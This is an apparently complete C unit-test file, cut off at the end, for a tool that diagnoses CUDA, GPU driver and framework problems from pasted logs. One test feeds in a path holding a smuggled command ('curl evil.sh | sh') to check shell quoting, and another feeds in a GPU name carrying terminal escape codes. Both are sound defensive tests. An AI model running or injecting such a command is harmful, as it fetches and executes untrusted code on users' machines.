/*
 * t_explain_logfacts.c - what explain reads from what a log states
 * (explain/logfacts.c, explain/stated.c): versions, builds and GPUs judged
 * by the doctor's rules, alone or merged with a machine's facts (the log
 * wins); status codes stated by number or in a binding's spelling; the
 * fix for a missing cuDNN from the knowledge base; lines of the same shape
 * matched once (explain/linememo.c) without losing what differs.
 */
#include "unit.h"
#include "explain_run.h"
#include "rules_facts.h"

#include "base/str.h"
#include "explain/explain.h"
#include "explain/logfacts.h"
#include "explain/logread.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const struct explain_cause *
cause(const struct explain *x, const char *id)
{
	size_t i;

	for (i = 0; i < x->ncauses; i++)
		if (!strcmp(x->causes[i].id, id))
			return &x->causes[i];
	return NULL;
}

static bool
evidence_says(const struct explain_cause *c, const char *needle)
{
	int k;

	for (k = 0; k < c->nevidence; k++)
		if (strstr(c->evidence[k], needle))
			return true;
	return false;
}

/* A log read on the facts of machine (NULL: the log alone). */
static void
run_on(struct explain *x, const char *text, const struct facts *machine)
{
	char err[256];
	struct logread r;

	assert_int_equal(explain_init(x, err, sizeof(err)), 0);
	x->machine = machine;
	logread_init_mem(&r, text, strlen(text));
	assert_int_equal(explain_stream(x, &r), 0);
	logread_release(&r);
	explain_finish(x);
}

static const char smi_470[] =
	"+-----------------------------------------------------------------------------+\n"
	"| NVIDIA-SMI 470.82.01    Driver Version: 470.82.01    CUDA Version: 11.4     |\n"
	"|-------------------------------+----------------------+----------------------+\n";

/* nvidia-smi's banner and a pip listing: the rule doctor uses, its fix. */
static void
driver_and_wheel_judged_by_the_rule(void **state)
{
	char log[1024];
	struct explain x;
	const struct explain_cause *c;

	(void)state;
	snprintf(log, sizeof(log), "$ nvidia-smi\n%s$ pip list | grep torch\n"
				   "torch                    2.1.0+cu121\n"
				   "torchvision              0.16.0+cu121\n"
				   ">>> torch.cuda.is_available()\nFalse\n",
		 smi_470);
	run_text(&x, log);
	assert_true(x.ncauses >= 1);
	c = &x.causes[0];
	assert_string_equal(c->id, "driver.too_old");
	assert_int_equal(c->severity, SEV_ERROR);
	assert_null(c->pattern);
	assert_string_equal(c->title, "torch 2.1.0+cu121 needs CUDA 12.1; the driver 470.82.01 runs CUDA "
				      "up to 11.4");
	assert_true(evidence_says(c, "line 3 states driver 470.82.01, which runs CUDA up to 11.4"));
	assert_true(evidence_says(c, "line 6 states torch 2.1.0+cu121, built for CUDA 12.1"));
	/* the lines that state it, in order */
	assert_int_equal(c->nlines, 2);
	assert_int_equal(c->lines[0], 3);
	assert_int_equal(c->lines[1], 6);
	/* the fix: a driver for CUDA 12.1, or the torch build that runs on 470 */
	assert_non_null(strstr(c->fix, "Upgrade the driver to 530.30.02 or newer"));
	assert_non_null(strstr(c->fix, "torch==2.1.0 --index-url https://download.pytorch.org/whl/cu118"));
	/* the distribution is unknown: no apt commands for another machine */
	assert_null(strstr(c->fix, "apt "));
	explain_release(&x);
}

/* collect_env: "CUDA used to build PyTorch: Could not collect" is
 * torch.version.cuda None, a CPU-only build; two RTX 3090s. */
static void
collect_env_cpu_build(void **state)
{
	struct explain x;
	const struct explain_cause *c;

	(void)state;
	run_text(&x, "Collecting environment information...\n"
		     "PyTorch version: 1.8.1\n"
		     "Is debug build: False\n"
		     "CUDA used to build PyTorch: Could not collect\n"
		     "ROCM used to build PyTorch: N/A\n"
		     "Python version: 3.8.16 (default, Jun 12 2023, 18:09:05)  [GCC 11.2.0] (64-bit runtime)\n"
		     "Is CUDA available: False\n"
		     "GPU models and configuration: \n"
		     "GPU 0: NVIDIA GeForce RTX 3090\n"
		     "GPU 1: NVIDIA GeForce RTX 3090\n"
		     "Nvidia driver version: 470.182.03\n");
	assert_int_equal(x.ncauses, 1); /* the "Could not collect" line is a fact, not an unknown error */
	c = &x.causes[0];
	assert_string_equal(c->id, "fw.cpu_only_build");
	assert_string_equal(c->title, "torch 1.8.1 is a CPU-only build on a machine with an NVIDIA GPU");
	assert_true(evidence_says(c, "line 2 states torch 1.8.1, a CPU-only build"));
	assert_true(evidence_says(c, "states NVIDIA GeForce RTX 3090 (compute capability 8.6)"));
	assert_non_null(strstr(c->fix, "torch==1.8.1 --index-url https://download.pytorch.org/whl/cu111"));
	explain_release(&x);
}

/* Two drivers in one paste (an upgrade half-way): no driver is known, and
 * no rule fires on a guess. The same for two torch builds. */
static void
conflicting_statements_are_unknown(void **state)
{
	struct explain x;

	(void)state;
	run_text(&x, "Driver Version: 470.82.01\n"
		     "torch==2.1.0+cu121\n"
		     "... after the upgrade ...\n"
		     "Driver Version: 535.104.05\n");
	assert_true(x.stated.driver_conflict);
	assert_null(cause(&x, "driver.too_old"));
	explain_release(&x);

	run_text(&x, "Driver Version: 470.82.01\n"
		     "    Found existing installation: torch 2.0.1+cu117\n"
		     "    Uninstalling torch-2.0.1+cu117:\n"
		     "Successfully installed torch-2.1.0+cu121\n");
	assert_true(x.stated.nfw == 1 && x.stated.fw[0].conflict);
	assert_null(cause(&x, "driver.too_old"));
	explain_release(&x);

	/* the same driver twice, in nvidia-smi's and TensorFlow's spelling */
	run_text(&x, "Driver Version: 470.82.01\n"
		     "kernel reported version is: 470.82.1\n"
		     "torch 2.1.0+cu121\n");
	assert_false(x.stated.driver_conflict);
	assert_non_null(cause(&x, "driver.too_old"));
	explain_release(&x);
}

/* A REPL's answer on the next line; torch.version.cuda; conda's build
 * string; a wheel's file name; TensorFlow's device line. */
static void
statement_forms(void **state)
{
	struct explain x;

	(void)state;
	run_text(&x, ">>> import torch\n>>> torch.__version__\n'1.7.1+cu110'\n"
		     ">>> print(torch.version.cuda)\n11.0\n");
	assert_int_equal(x.stated.nfw, 1);
	assert_string_equal(x.stated.fw[0].version, "1.7.1+cu110");
	assert_string_equal(x.stated.fw[0].built_cuda, "11.0");
	assert_int_equal(x.stated.fw[0].line, 3);
	explain_release(&x);

	run_text(&x, "pytorch                   1.12.1          py3.9_cuda11.3_cudnn8.3.2_0    pytorch\n");
	assert_string_equal(x.stated.fw[0].version, "1.12.1");
	assert_string_equal(x.stated.fw[0].built_cuda, "11.3");
	explain_release(&x);

	run_text(&x, "Downloading torch-2.3.0+cu118-cp310-cp310-linux_x86_64.whl (839.7 MB)\n");
	assert_string_equal(x.stated.fw[0].version, "2.3.0+cu118");
	assert_string_equal(x.stated.fw[0].built_cuda, "11.8");
	explain_release(&x);

	run_text(&x, "2021-02-01 10:00:00.000000: I tensorflow/core/common_runtime/gpu/gpu_device.cc:1406] "
		     "Created TensorFlow device (/job:localhost/replica:0/task:0/device:GPU:0 with 10000 MB "
		     "memory) -> physical GPU (device: 0, name: GeForce GTX 1080 Ti, pci bus id: "
		     "0000:01:00.0, compute capability: 6.1)\n"
		     "name: Tesla K80 major: 3 minor: 7 memoryClockRate(GHz): 0.8235\n");
	assert_int_equal(x.stated.ngpus, 2);
	assert_string_equal(x.stated.gpus[0].name, "GeForce GTX 1080 Ti");
	assert_string_equal(x.stated.gpus[0].cc, "6.1");
	assert_string_equal(x.stated.gpus[1].name, "Tesla K80");
	assert_string_equal(x.stated.gpus[1].cc, "3.7");
	explain_release(&x);

	/* pip names its Python; the release has no build for it */
	run_text(&x, "Using pip 22.0.4 from /home/u/.local/lib/python3.8/site-packages/pip (python 3.8)\n"
		     "ERROR: Could not find a version that satisfies the requirement tensorflow-gpu==1.15.0 "
		     "(from versions: 2.2.0, 2.2.1)\n");
	assert_string_equal(x.stated.python, "3.8");
	assert_non_null(cause(&x, "fw.python_unsupported"));
	assert_string_equal(x.causes[0].id, "fw.python_unsupported");
	explain_release(&x);

	/* a REPL's False, and a container started without GPUs above it */
	run_text(&x, ">>> torch.cuda.is_available()\nFalse\n");
	assert_int_equal(x.stated.unavailable_line, 2);
	assert_string_equal(x.causes[0].id, "fw.no_gpu_at_runtime");
	assert_int_equal(x.causes[0].role, EXPLAIN_SYMPTOM);
	explain_release(&x);
	expect_first("$ docker run -it pytorch/pytorch python\n>>> torch.cuda.is_available()\nFalse\n", "host.container_no_gpu");

	/* a container's ID as host name, a compose or kubectl command: a GPU
	 * not found inside is a GPU not given, unless GPUs were asked for or
	 * another error explains the log */
	run_text(&x, "E cuda_driver.cc:314] failed call to cuInit: CUDA_ERROR_NO_DEVICE: no CUDA-capable "
		     "device is detected\nI cuda_diagnostics.cc:156] kernel driver does not appear to be "
		     "running on this host (16c54693e7f2): /proc/driver/nvidia/version does not exist\n");
	assert_string_equal(x.causes[0].id, "host.container_no_gpu");
	assert_non_null(strstr(x.causes[0].evidence[0], "a container or a pod (line 2)"));
	explain_release(&x);
	run_text(&x, "root@ff598b664d63:/workspace# python -c 'import torch; torch.zeros(1).cuda()'\n"
		     "ImportError: libcuda.so.1: cannot open shared object file: No such file or directory\n");
	assert_string_equal(x.causes[0].id, "host.container_no_gpu");
	explain_release(&x);
	run_text(&x, "root@myserver:~# python -c 'import torch; torch.zeros(1).cuda()'\n"
		     "ImportError: libcuda.so.1: cannot open shared object file: No such file or directory\n");
	assert_string_equal(x.causes[0].id, "driver.libcuda_missing");
	explain_release(&x);
	expect_first("$ docker compose up\nImportError: libcuda.so.1: cannot open shared object file: "
		     "No such file or directory\n", "host.container_no_gpu");
	/* GPUs asked for: not a container without them; the toolkit did not
	 * bring the driver's libraries */
	expect_first("$ docker compose up\n      capabilities: [gpu]\nImportError: libcuda.so.1: cannot open "
		     "shared object file: No such file or directory\n", "host.container_toolkit_missing");
	expect_first("/aio/entrypoint.sh: line 52: nvidia-smi: command not found\n"
		     "RuntimeError: Found no NVIDIA driver on your system.\n", "host.container_no_gpu");
	expect_first("Attaching to app-1\napp-1  | RuntimeError: Found no NVIDIA driver on your system.\n", "host.container_no_gpu");
	expect_first("Attaching to process 4242\nRuntimeError: Found no NVIDIA driver on your system.\n", "driver.libcuda_missing");
	/* compose v1 names its containers project_service_1 and _run */
	expect_first("Creating vqgan_generate_run ... done\nRuntimeError: Found no NVIDIA driver on your system.\n", "host.container_no_gpu");
	expect_first("  Preparing metadata (setup.py) ... done\nRuntimeError: Found no NVIDIA driver on your system.\n", "driver.libcuda_missing");

	/* compose's prefix on each container's output */
	expect_first("qna-transformers_1  | RuntimeError: Found no NVIDIA driver on your system.\n", "host.container_no_gpu");
	expect_first("2024-01-01  | RuntimeError: Found no NVIDIA driver on your system.\n", "driver.libcuda_missing");

	/* a container that asked for GPUs and has no driver library inside:
	 * the toolkit did not put them in */
	run_text(&x, "$ docker run --rm --gpus=all nvidia/cuda:12.2.0-base-ubuntu22.04 nvidia-smi\n"
		     "NVIDIA-SMI couldn't find libnvidia-ml.so library in your system. Please make sure that "
		     "the NVIDIA Display Driver is properly installed and present in your system.\n");
	assert_string_equal(x.causes[0].id, "host.container_toolkit_missing");
	assert_true(evidence_says(&x.causes[0], "asks for GPUs for a container (line 1)"));
	explain_release(&x);
	/* ... but the toolkit's own message on the host: the host's driver */
	expect_first("$ docker run --rm --gpus all ubuntu nvidia-smi\n"
		     "nvidia-container-cli: initialization error: load library failed: libnvidia-ml.so.1: "
		     "cannot open shared object file: no such file or directory: unknown.\n", "driver.libcuda_missing");

	/* a message wrapped inside an indented block (pip's build output) */
	run_text(&x, "      RuntimeError:\n      The detected CUDA version (10.1) mismatches the version that "
		     "was used to compile\n      PyTorch (12.1). Please make sure to use the same CUDA versions.\n");
	assert_string_equal(x.causes[0].id, "lib.cuda_version_mismatch");
	assert_int_equal(x.causes[0].lines[0], 2);
	explain_release(&x);

	/* a bus error with NCCL's code under it: /dev/shm ran out */
	run_text(&x, "Thread 787 received signal SIGBUS, Bus error.\n"
		     "0x00007f6b59544f3b in ncclShmOpen(char*, unsigned long, void**, void**, int, void**) ()\n");
	assert_string_equal(x.causes[0].id, "rt.nccl_error");
	assert_true(evidence_says(&x.causes[0], "line 1"));
	explain_release(&x);
	run_text(&x, "Bus error (core dumped)\n");
	assert_null(cause(&x, "rt.nccl_error"));
	explain_release(&x);

	/* WSL2 (its kernel's name, a Linux prompt on a host Windows named):
	 * "the driver" nvidia-smi cannot reach is the Windows one */
	run_text(&x, "me@DESKTOP-930EG0A:~$ nvidia-smi\nNVIDIA-SMI has failed because it couldn't communicate "
		     "with the NVIDIA driver. Make sure that the latest NVIDIA driver is installed and running.\n");
	assert_string_equal(x.causes[0].id, "host.wsl_driver_missing");
	assert_string_equal(x.causes[0].title, "WSL2 cannot reach the NVIDIA driver on Windows");
	explain_release(&x);
	expect_first("Linux box 4.19.128-microsoft-standard #1 SMP x86_64 GNU/Linux\nNVIDIA-SMI has failed because "
		     "it couldn't communicate with the NVIDIA driver.\n", "host.wsl_driver_missing");
	expect_first("me@DESKTOP-9E:~$ nvidia-smi\nNVIDIA-SMI has failed because it couldn't communicate with the "
		     "NVIDIA driver.\n", "kmod.nvidia_not_loaded");
	/* WSL 1 has no GPU at all */
	expect_first("NVIDIA-SMI has failed because it couldn't communicate with the NVIDIA driver.\n"
		     "Error! Your kernel headers for kernel 4.4.0-19041-Microsoft cannot be found.\n", "host.unsupported_os");

	run_text(&x, "$ kubectl logs trainer-0\nImportError: libcuda.so.1: cannot open shared object file: "
		     "No such file or directory\nRuntimeError: CUDA out of memory. Tried to allocate 20.00 MiB\n");
	assert_null(cause(&x, "host.container_no_gpu"));
	explain_release(&x);

	/* issue forms and env reports: TensorFlow 2.11 or newer on native
	 * Windows, by the doctor's rule; WSL is not native Windows */
	run_text(&x, "### Tensorflow Version\n\nv2.12.0-rc1-12-g0db597d0d75 2.12.0\n\n"
		     "### OS Platform and Distribution\n\nWindows 10\n\n### Relevant log output\n\n[]\n");
	assert_string_equal(x.stated.fw[0].version, "2.12.0");
	assert_true(x.stated.windows);
	assert_string_equal(x.causes[0].id, "host.windows_native_tf_gpu");
	explain_release(&x);
	run_text(&x, "- OS Platform and Distribution (e.g., Linux Ubuntu 16.04): Windows 11 WSL2\n"
		     "- TensorFlow version (use command below): 2.12.0\n");
	assert_false(x.stated.windows);
	assert_null(cause(&x, "host.windows_native_tf_gpu"));
	explain_release(&x);
	expect_first("- Platform: Windows-10-10.0.19045-SP0\n- Tensorflow version (GPU?): 2.13.0 (False)\n", "host.windows_native_tf_gpu");
	run_text(&x, "- Platform: Windows-10-10.0.19045-SP0\n- Tensorflow version (GPU?): 2.10.1 (False)\n");
	assert_null(cause(&x, "host.windows_native_tf_gpu"));
	explain_release(&x);
	/* a heading's answer must be a version alone */
	run_text(&x, "### TensorFlow version\n\nthe latest one, 2.15 I think\n");
	assert_int_equal(x.stated.nfw, 0);
	explain_release(&x);

	/* a CPU-only build stated beside "no GPU": the build is why */
	expect_first("- PyTorch version (GPU?): 2.1.1+cpu (False)\n", "fw.cpu_only_build");
	run_text(&x, "- PyTorch version (GPU?): 2.1.1+cu121 (False)\n");
	assert_null(cause(&x, "fw.cpu_only_build"));
	explain_release(&x);
	run_text(&x, "- PyTorch version (GPU?): 2.1.1+cpu (True)\n");
	assert_null(cause(&x, "fw.cpu_only_build"));
	explain_release(&x);

	/* the GPU nearly full before TensorFlow allocated anything */
	run_text(&x, "name: GeForce GTX 1080\nmajor: 6 minor: 1 memoryClockRate (GHz) 1.7335\n"
		     "Total memory: 7.92GiB\nFree memory: 190.31MiB\n"
		     "E cuda_driver.cc:1002] failed to allocate 190.31M (199557120 bytes) from device: "
		     "CUDA_ERROR_OUT_OF_MEMORY\n");
	assert_string_equal(x.causes[0].id, "mem.held_by_other_process");
	assert_non_null(strstr(x.causes[0].title, "Only 190 MiB of the GPU's 8110 MiB were free"));
	explain_release(&x);
	run_text(&x, "Total memory: 7.92GiB\nFree memory: 7.71GiB\n");
	assert_null(cause(&x, "mem.held_by_other_process"));
	explain_release(&x);

	/* /proc/cpuinfo's flags without avx; with avx nothing */
	expect_first("flags\t\t: fpu vme de pse tsc msr pae mce cx8 apic sep sse sse2 ssse3 sse4_1\n", "host.no_avx");
	run_text(&x, "flags\t\t: fpu vme sse sse2 ssse3 sse4_1 sse4_2 avx avx2 fma\n");
	assert_int_equal(x.ncauses, 0);
	explain_release(&x);

	/* a name from a log is cleaned before it reaches a title */
	run_text(&x, "PyTorch version: 2.6.0+cu126\n"
		     "name: Evil\033]0;title\007GPU\377, pci bus id: 0000:01:00.0, compute capability: 12.0)\n");
	assert_string_equal(x.stated.gpus[0].name, "EvilGPU?");
	assert_null(strchr(x.causes[0].title, '\033'));
	explain_release(&x);

	/* what a log says goes into a fix's commands quoted for the shell;
	 * a plain value stays as it is */
	run_text(&x, "ERROR: libcudart.so could not be read from path: /tmp/x; curl evil.sh | sh!\n");
	assert_non_null(strstr(x.causes[0].fix, "ls -l '/tmp/x; curl evil.sh | sh'\n"));
	explain_release(&x);
	run_text(&x, "ERROR: libcudart.so could not be read from path: /usr/local/cuda/lib64/libcudart.so!\n");
	assert_non_null(strstr(x.causes[0].fix, "ls -l /usr/local/cuda/lib64/libcudart.so\n"));
	assert_non_null(strstr(x.causes[0].title, "/usr/local/cuda/lib64/libcudart.so"));
	explain_release(&x);

	/* words that only look like statements */
	run_text(&x, "import torch, torchvision\n"
		     "RuntimeError: CUDA out of memory. (GPU 0; 10.76 GiB total capacity)\n"
		     "GPU 0: out of memory\n"
		     "pip install torch>=1.8\n"
		     "Requirement already satisfied: torch in ./venv/lib/python3.10/site-packages\n");
	assert_int_equal(x.stated.nfw, 0);
	assert_int_equal(x.stated.ngpus, 0);
	assert_string_equal(x.stated.driver, "");
	explain_release(&x);
}

/* A GPU newer than every architecture of the build. */
static void
gpu_and_build_judged_by_runs_on(void **state)
{
	struct explain x;
	const struct explain_cause *c;

	(void)state;
	run_text(&x, "PyTorch version: 2.6.0+cu126\n"
		     "GPU models and configuration: GPU 0: NVIDIA GeForce RTX 5090\n"
		     "Nvidia driver version: 570.124.04\n");
	c = cause(&x, "fw.arch_not_in_build");
	assert_non_null(c);
	assert_ptr_equal(c, &x.causes[0]);
	assert_non_null(strstr(c->title, "torch 2.6.0+cu126 cannot run on NVIDIA GeForce RTX 5090"));
	explain_release(&x);
}

/* --here: the log's facts merged with the machine's, the log winning. */
static void
merged_with_the_machine(void **state)
{
	struct facts *m = healthy_h200();
	struct explain x;
	const struct explain_cause *c;

	(void)state;
	/* the machine's driver (580) runs a +cu121 build: nothing to say */
	run_on(&x, "torch==2.1.0+cu121\n", m);
	assert_null(cause(&x, "driver.too_old"));
	explain_release(&x);
	/* the log's run had driver 470: it wins */
	run_on(&x, "Driver Version: 470.82.01\ntorch==2.1.0+cu121\n", m);
	assert_non_null(cause(&x, "driver.too_old"));
	explain_release(&x);
	/* a CPU build in the log, the GPU from the machine */
	run_on(&x, "torch 2.5.1+cpu\n", m);
	c = cause(&x, "fw.cpu_only_build");
	assert_non_null(c);
	assert_null(c->pattern == NULL ? NULL : strstr(c->title, "(pip wheel)"));
	assert_non_null(strstr(c->title, "on a machine with an NVIDIA GPU"));
	explain_release(&x);
	free(m);
}

/* Status codes by number, in the bindings' spellings, and cuDNN 8's. */
static void
codes_in_other_forms(void **state)
{
	static const struct {
		const char *line, *id;
	} cases[] = {
		{"cudaRuntimeGetVersion() failed with error #35", "driver.too_old"},
		{"CUDA driver error: cuInit returned error code 100", "driver.no_visible_device"},
		{"pynvml.NVMLError_DriverNotLoaded: Driver Not Loaded", "kmod.nvidia_not_loaded"},
		{"pynvml.nvml.NVMLError_LibRmVersionMismatch: RM has detected an NVML/RM version mismatch.",
		 "driver.version_mismatch"},
		{"thread 'main' panicked at 'called `Result::unwrap()` on an `Err` value: Cuda(NoBinaryForGpu)'",
		 "fw.arch_not_in_build"},
		{"Error: CudaError::NoDevice", "driver.no_visible_device"},
		{"F0817 22:53:22.694056 24820 cudnn_conv_layer.cpp:32] Check failed: status == "
		 "CUDNN_STATUS_SUCCESS (6 vs. 0)  CUDNN_STATUS_ARCH_MISMATCH", "hw.arch_too_old"},
		{"cudnn error 14 in conv.cpp", "lib.cudnn_version_mismatch"},
		{"ptxas fatal   : Unsupported .version 7.0; current version is '6.4'", "lib.ptxas_missing"},
		{"nvidia-docker | 2017/01/01 Error: unsupported CUDA version: driver 8.0 < image 9.0",
		 "driver.too_old"},
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct explain x;
		char log[512];

		snprintf(log, sizeof(log), "%s\n", cases[i].line);
		run_text(&x, log);
		if (!x.ncauses || strcmp(x.causes[0].id, cases[i].id))
			fail_msg("%s: %s, expected %s", cases[i].line, x.ncauses ? x.causes[0].id : "none",
				 cases[i].id);
		explain_release(&x);
	}
	/* a number that is no code of the library the line names, a year, a
	 * version: nothing */
	{
		struct explain x;
		run_text(&x, "CUDA error 2023 at step 5\nCUDA error code 12.4 installed\n");
		assert_null(cause(&x, "driver.too_old"));
		for (i = 0; i < x.ncauses; i++)
			assert_string_equal(x.causes[i].id, "rt.unknown");
		explain_release(&x);
	}
}

/* A missing cuDNN: the CUDA major from the log, else both, recommended
 * first; libcudart.so.11.0 is every CUDA 11. */
static void
cudnn_fix_from_the_knowledge_base(void **state)
{
	struct explain x;
	const struct explain_cause *c;

	(void)state;
	run_text(&x, "Could not load library libcudnn_cnn_infer.so.8. Error: libcudnn.so.8: cannot open "
		     "shared object file: No such file or directory\n");
	c = cause(&x, "lib.cudnn_missing");
	assert_non_null(c);
	assert_true(str_starts(c->fix, "Install cuDNN 8 for the CUDA major the program was built for "
				       "(the log does not say it); for CUDA 12:\n"
				       "pip install 'nvidia-cudnn-cu12==8.9.*'\n"));
	assert_non_null(strstr(c->fix, "\nAlternatives:\n- for CUDA 11: pip install 'nvidia-cudnn-cu11==8.9.*'\n"));
	/* no "or" between commands, one recommendation */
	assert_null(strstr(c->fix, "\nor "));
	explain_release(&x);

	run_text(&x, "Driver Version: 535.104.05\ntorch==2.0.1+cu117\n"
		     "OSError: libcudnn.so.8: cannot open shared object file: No such file or directory\n");
	c = cause(&x, "lib.cudnn_missing");
	assert_non_null(c);
	assert_true(str_starts(c->fix, "Install cuDNN 8.9 for CUDA 11 (libcudnn.so.8 is cuDNN 8; line 2 "
				       "states torch 2.0.1+cu117, built for CUDA 11.7):\n"));
	explain_release(&x);

	run_text(&x, "Could not load dynamic library 'libcudart.so.11.0'; dlerror: libcudart.so.11.0: "
		     "cannot open shared object file: No such file or directory\n");
	c = cause(&x, "lib.cudart_missing");
	assert_non_null(c);
	assert_true(evidence_says(c, "libcudart.so.11.0 is the CUDA 11 runtime (any 11.x"));
	explain_release(&x);
}

/* Lines of one shape are matched once; what differs is still read: the
 * captures of each line, a digit in an anchor, a code's number. */
static void
same_shape_lines(void **state)
{
	struct explain x;
	const struct explain_cause *c;
	char log[8192];
	size_t o = 0;
	int i;

	(void)state;
	for (i = 0; i < 12; i++)
		o += (size_t)snprintf(log + o, sizeof(log) - o,
				      "2024-03-02 11:04:%02d.%06d: W dso_loader.cc:64] Could not load dynamic "
				      "library 'libcudnn.so.%d'; dlerror: libcudnn.so.%d: cannot open shared "
				      "object file: No such file or directory\n",
				      i, i * 7919, 7 + i % 3, 7 + i % 3);
	run_text(&x, log);
	c = cause(&x, "lib.cudnn_missing");
	assert_non_null(c);
	assert_int_equal(c->count, 12);
	assert_non_null(explain_value_at(c, "soname", 2));
	assert_string_equal(explain_value_at(c, "soname", 0), "libcudnn.so.7");
	assert_string_equal(explain_value_at(c, "soname", 1), "libcudnn.so.8");
	assert_string_equal(explain_value_at(c, "soname", 2), "libcudnn.so.9");
	explain_release(&x);

	/* the same line with another size: both sizes captured */
	run_text(&x, "2024-03-02 11:04:51.018233: W bfc_allocator.cc:290] Allocator (GPU_0_bfc) ran out "
		     "of memory trying to allocate 2.14GiB with freed_by_count=0.\n"
		     "2024-03-02 11:04:52.018233: W bfc_allocator.cc:290] Allocator (GPU_0_bfc) ran out "
		     "of memory trying to allocate 4.28GiB with freed_by_count=0.\n");
	assert_int_equal(x.ncauses, 1);
	assert_int_equal(x.causes[0].count, 2);
	assert_string_equal(explain_value_at(&x.causes[0], "requested", 0), "2.14GiB");
	assert_string_equal(explain_value_at(&x.causes[0], "requested", 1), "4.28GiB");
	explain_release(&x);

	/* a code's number after the prefix is no digit of the prefix */
	run_text(&x, "12:00:01 cudaGetDeviceCount failed with error 35\n"
		     "12:00:02 cudaGetDeviceCount failed with error 46\n");
	assert_non_null(cause(&x, "driver.too_old"));
	assert_non_null(cause(&x, "rt.device_busy"));
	explain_release(&x);
}

/* A build's list of GPU code as the log states it, against a GPU the log
 * names, decided by runs_on.h: ggml's system_info without PTX marks (the
 * newest taken to be PTX), TensorFlow's build_info with them. */
static void
stated_build_code_judged_by_runs_on(void **state)
{
	struct explain x;
	const struct explain_cause *c;

	(void)state;
	run_text(&x, "ggml_cuda_init: found 1 CUDA devices:\n"
		     "  Device 0: Tesla M60, compute capability 5.2, VMM: yes\n"
		     "system_info: n_threads = 8 | CUDA : ARCHS = 600,610,700,750,800,860,890,900 | "
		     "F16 = 1 | CPU : SSE3 = 1 | AVX = 1 |\n");
	c = cause(&x, "fw.arch_not_in_build");
	assert_non_null(c);
	assert_ptr_equal(c, &x.causes[0]);
	assert_string_equal(x.stated.archs_sass, "6.0 6.1 7.0 7.5 8.0 8.6 8.9 9.0");
	assert_non_null(strstr(c->title, "Tesla M60 (compute capability 5.2)"));
	assert_true(evidence_says(c, "line 3: the build carries code for 6.0 6.1 7.0 7.5 8.0 8.6 8.9 9.0, "
				     "PTX for 9.0 (the newest taken to be PTX)"));
	assert_non_null(strstr(c->fix, "-DCMAKE_CUDA_ARCHITECTURES=52\n"));
	explain_release(&x);

	/* newer than every target: the newest's PTX may run, so no verdict */
	run_text(&x, "  Device 0: NVIDIA GeForce RTX 5090, compute capability 12.0, VMM: yes\n"
		     "system_info: CUDA : ARCHS = 500,610,700,750,800 | F16 = 1 |\n");
	assert_null(cause(&x, "fw.arch_not_in_build"));
	explain_release(&x);
	/* a target of the same major with a lower minor runs (8.6 on 8.0 code) */
	run_text(&x, "  Device 0: NVIDIA GeForce RTX 3090, compute capability 8.6, VMM: yes\n"
		     "system_info: CUDA : ARCHS = 520,610,700,750,800 |\n");
	assert_null(cause(&x, "fw.arch_not_in_build"));
	explain_release(&x);

	/* TensorFlow's build_info says which are PTX: sm_ lists only, none
	 * for a newer major, is a build that cannot run */
	run_text(&x, "{'cuda_compute_capabilities': ['sm_35', 'sm_50', 'sm_60', 'sm_70', 'sm_75'], "
		     "'cuda_version': '11.2'}\n"
		     "name: NVIDIA GeForce RTX 3080 major: 8 minor: 6 memoryClockRate(GHz): 1.71\n");
	assert_string_equal(x.stated.archs_sass, "3.5 5.0 6.0 7.0 7.5");
	assert_string_equal(x.stated.archs_ptx, "");
	assert_non_null(cause(&x, "fw.arch_not_in_build"));
	explain_release(&x);
	run_text(&x, "{'cuda_compute_capabilities': ['sm_35', 'sm_50', 'sm_60', 'sm_70', 'sm_75', "
		     "'compute_80']}\n"
		     "name: NVIDIA GeForce RTX 3080 major: 8 minor: 6 memoryClockRate(GHz): 1.71\n");
	assert_string_equal(x.stated.archs_ptx, "8.0");
	assert_null(cause(&x, "fw.arch_not_in_build"));
	explain_release(&x);

	/* a list with no GPU named, or words that are no list: nothing */
	run_text(&x, "system_info: CUDA : ARCHS = 600,610,700 |\n");
	assert_int_equal(x.ncauses, 0);
	explain_release(&x);
	run_text(&x, "  Device 0: Tesla M60, compute capability 5.2, VMM: yes\nthe ARCHS = see below\n");
	assert_int_equal(x.stated.archs_line, 0);
	assert_null(cause(&x, "fw.arch_not_in_build"));
	explain_release(&x);
}

/* A log from macOS that misses the GPU: the system has no CUDA. Its
 * homes are "/Users/" at a path's root; other spellings are not macOS. */
static void
macos_has_no_cuda(void **state)
{
	static const char *const mac[] = {
		"  File \"/Users/ann/env/lib/python3.10/site-packages/torch/cuda/__init__.py\", line 284\n",
		"Python 3.9.6 (default, May  7 2023, 23:32:44) [Clang 14.0.3] on darwin\n",
		"OS: macOS 14.2.1 (arm64)\n",
		"- OS Platform and Distribution (e.g., Linux Ubuntu 16.04): Mac OS X 10.13.4\n",
		"Downloading torch-2.1.0-cp310-none-macosx_11_0_arm64.whl (59.6 MB)\n",
	};
	static const char *const not_mac[] = {
		"  File \"/home/users/ann/env/lib/python3.10/site-packages/torch/cuda/__init__.py\"\n",
		"  File \"/users/ann/env/lib/python3.10/site-packages/torch/cuda/__init__.py\"\n",
		"$ ls /c/Users/ann/env\n",
	};
	static const char err[] = "AssertionError: Torch not compiled with CUDA enabled\n";
	char log[512];
	struct explain x;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(mac) / sizeof(mac[0]); i++) {
		snprintf(log, sizeof(log), "%s%s", mac[i], err);
		run_text(&x, log);
		if (!x.ncauses || strcmp(x.causes[0].id, "host.unsupported_os"))
			fail_msg("%s: first is %s", mac[i], x.ncauses ? x.causes[0].id : "none");
		assert_int_equal(x.stated.macos_line, 1);
		explain_release(&x);
	}
	for (i = 0; i < sizeof(not_mac) / sizeof(not_mac[0]); i++) {
		snprintf(log, sizeof(log), "%s%s", not_mac[i], err);
		run_text(&x, log);
		assert_int_equal(x.stated.macos_line, 0);
		assert_string_equal(x.causes[0].id, "fw.cpu_only_build");
		explain_release(&x);
	}
	/* the system alone is no error */
	run_text(&x, mac[0]);
	assert_int_equal(x.ncauses, 0);
	explain_release(&x);
}

/* TensorFlow's device list and the tutorial's count: a list without a GPU
 * is TensorFlow seeing none; XLA_GPU alone is the driver working and the
 * CUDA libraries not loading; on native Windows with no release stated
 * and no CUDA line, the build without CUDA of 2.11 and later. */
static void
tensorflow_device_lists(void **state)
{
	static const char cpu_only[] =
		"[PhysicalDevice(name='/physical_device:CPU:0', device_type='CPU')]\n";
	static const char xla[] = "[PhysicalDevice(name='/physical_device:CPU:0', device_type='CPU'),\n"
